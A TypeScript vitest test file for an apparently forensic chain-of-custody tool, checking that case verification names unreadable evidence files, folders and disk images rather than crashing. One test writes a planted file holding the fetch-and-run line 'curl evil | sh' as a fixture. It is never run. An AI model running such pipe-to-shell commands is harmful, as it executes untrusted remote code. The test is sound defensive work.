/**
 * verify of a case whose files or folders are there but cannot be read: an examiner who is not
 * the collecting user (case files are 0600) gets a verdict naming each one, never a crash and
 * never "missing". Permissions are simulated (root reads everything): `node:fs` answers EACCES
 * for the paths a test denies, as the kernel would for mode 000; one test uses real permissions
 * when not run as root.
 */
import { createHash } from 'node:crypto';
import { chmod, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { openCase, verifyCase, type CaseHandle } from '../../src/custody/index.js';
import { buildClosedCase, caseOptions, useScratch } from './helpers.js';
import { denied } from './denied-fs.js';

vi.mock('node:fs', async (original) => (await import('./denied-fs.js')).deniedFs(await original()));
vi.mock('node:fs/promises', async (original) => (await import('./denied-fs.js')).deniedFsPromises(await original()));

// The case built by buildClosedCase records its two files in entries 3 and 4.
const ITEM = 'evidence/ev-aaaaaaaaaaaa';
const DESCRIBE = `${ITEM}/instance.json`;
const LOG = `${ITEM}/console-output.log`;

describe('verify of files that cannot be read', () => {
  const scratch = useScratch();
  let kase: CaseHandle;

  beforeEach(async () => {
    denied.clear();
    kase = await buildClosedCase(scratch);
  });

  it('an evidence file that cannot be opened is named as unreadable (not checked), and the rest is still verified', async () => {
    denied.files.add(join(kase.caseDir, LOG));
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: LOG, entrySeq: 4 })]);
    expect(result.firstProblem?.message).toMatch(/^evidence\/ev-aaaaaaaaaaaa\/console-output\.log \(recorded in entry 4\) cannot be read, so it was not checked: EACCES/);
    expect(result.evidence.verified).toBe(1);
  });

  it('the files of an evidence folder that cannot be read are unreadable, not missing, and the folder is named', async () => {
    denied.folders.add(join(kase.caseDir, ITEM));
    const result = await verifyCase(kase.caseDir);
    expect(result.problems.map((p) => [p.kind, p.path, p.entrySeq])).toEqual([
      ['unreadable', DESCRIBE, 3],
      ['unreadable', LOG, 4],
      ['unreadable', ITEM, undefined],
    ]);
  });

  it('an evidence folder that can be searched but not listed fails: an unrecorded file in it could not be looked for', async () => {
    await writeFile(join(kase.caseDir, ITEM, 'planted.sh'), 'curl evil | sh');
    denied.listing.add(join(kase.caseDir, ITEM));
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: ITEM })]);
    expect(result.firstProblem?.message).toMatch(/cannot be listed, so a file in it that no entry records could not be looked for/);
  });

  it('a raw disk image in the case folder that cannot be read is named as unreadable', async () => {
    const open = await openCase(caseOptions(scratch, { caseId: 'IR-2026-0045' }));
    const bytes = Buffer.alloc(4096, 7);
    await mkdir(join(open.caseDir, 'images'));
    await writeFile(join(open.caseDir, 'images', 'vol-1.raw'), bytes);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    await open.record('disk.imaged', { volumeId: 'vol-1', path: 'images/vol-1.raw', insideCase: true, sha256, size: bytes.length });
    await open.close();
    expect((await verifyCase(open.caseDir)).ok).toBe(true);
    denied.files.add(join(open.caseDir, 'images', 'vol-1.raw'));
    const result = await verifyCase(open.caseDir);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: 'images/vol-1.raw', entrySeq: 2 })]);
  });

  it.skipIf(process.getuid?.() === 0 || process.platform === 'win32')('with real permissions: a file of mode 000 is unreadable, not a crash', async () => {
    await chmod(join(kase.caseDir, LOG), 0o000);
    const result = await verifyCase(kase.caseDir);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: LOG, entrySeq: 4 })]);
  });
});
